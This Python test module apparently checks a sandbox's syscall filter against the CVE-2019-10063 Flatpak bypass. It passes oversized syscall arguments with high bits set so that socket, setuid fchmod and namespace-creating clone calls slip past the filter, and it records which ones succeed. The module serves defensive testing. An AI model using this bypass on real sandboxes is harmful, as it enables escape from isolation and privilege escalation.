"""A server says more bits of a number than the kernel looks at, so that a filter takes it for another number.

Source: CVE-2019-10063 of Flatpak, by the request of an ioctl.
Seen: the filter looks at what the kernel looks at.
"""

import ctypes
import os

from escaping import HELD, Escaping, system_call

MORE = 1 << 32


class Attack(Escaping):
    def escape(self):
        file = self.write("", "upper")
        found = []
        for name, numbers, arguments in (
            ("socket", (41, 198), (MORE | 40, 1, 0)),
            ("fchmod", (91, 52), (os.open(file, os.O_RDONLY), MORE | 0o4755)),
            ("clone", (56, 220), (MORE | 0x10000000 | 17, 0, 0, 0, 0)),
        ):
            try:
                got = system_call(numbers, *map(ctypes.c_ulong, arguments))
            except OSError:
                continue
            if name == "clone" and got == 0:
                os._exit(0)
            found.append(name)
        return ", ".join(found)


SEEN = HELD
